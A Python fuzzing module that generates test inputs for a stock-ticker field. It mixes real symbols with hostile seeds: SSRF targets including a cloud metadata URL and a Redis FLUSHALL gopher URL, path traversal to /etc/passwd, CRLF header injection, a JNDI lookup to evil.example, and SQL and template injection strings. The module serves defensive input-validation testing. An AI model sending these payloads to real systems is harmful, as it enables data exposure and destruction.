"""Texts that somebody may send as a ticker: real ones, broken ones, and addresses of hosts nobody should be led to."""

from collections.abc import Iterator
from random import Random

SEEDS = (
    "AAPL",
    "PETR4.SA",
    "BRK-B",
    "^GSPC",
    "EURUSD=X",
    "0700.HK",
    "http://169.254.169.254/latest/meta-data/",
    "//evil.example/x",
    "https://query2.finance.yahoo.com@evil.example/",
    "AAPL@evil.example",
    "AAPL#@evil.example",
    "AAPL?host=evil.example",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..\\..\\windows",
    "%2e%2e/%2e%2e",
    "AAPL%0d%0aHost:%20evil.example",
    "AAPL\r\nHost: evil.example\r\n\r\n",
    "AAPL\x00.evil.example",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "127.0.0.1:8000",
    "[::1]",
    "0x7f000001",
    "localhost",
    "ＡＡＰＬ",
    "AAPL\u202e",
    "evil。example",
    "xn--80ak6aa92e.com",
    "ß",
    "İ",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "' OR 1=1 --",
    "AAPL,MSFT",
    "AAPL MSFT",
    "-",
    ".",
    "..",
    "^",
    "=",
)
CHARACTERS = (
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcxyz0123456789^.-="
    + "/\\:@?#%&; \t\r\n\x00\x1b'\"<>{}$,_~+*!|"
    + "éßİＡ。\u202e\U0001f600"
)
TICKER_CHARACTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789^.-="


def fuzzed_tickers(number: int, seed: int = 20261121) -> Iterator[str]:
    """``number`` texts: the seeds as they are, then seeds with changes, noise, and what looks like a ticker."""
    random = Random(seed)
    yield from SEEDS[:number]
    for _ in range(number - len(SEEDS)):
        kind = random.random()
        if kind < 0.45:
            yield _changed(random.choice(SEEDS), random)
        elif kind < 0.9:
            yield "".join(random.choices(CHARACTERS, k=random.randint(1, 30)))
        else:
            yield "".join(random.choices(TICKER_CHARACTERS, k=random.randint(1, 22)))


def _changed(text: str, random: Random) -> str:
    for _ in range(random.randint(1, 3)):
        place = random.randint(0, len(text))
        text = text[:place] + random.choice(CHARACTERS) + text[place + random.randint(0, 2) :]
    return text
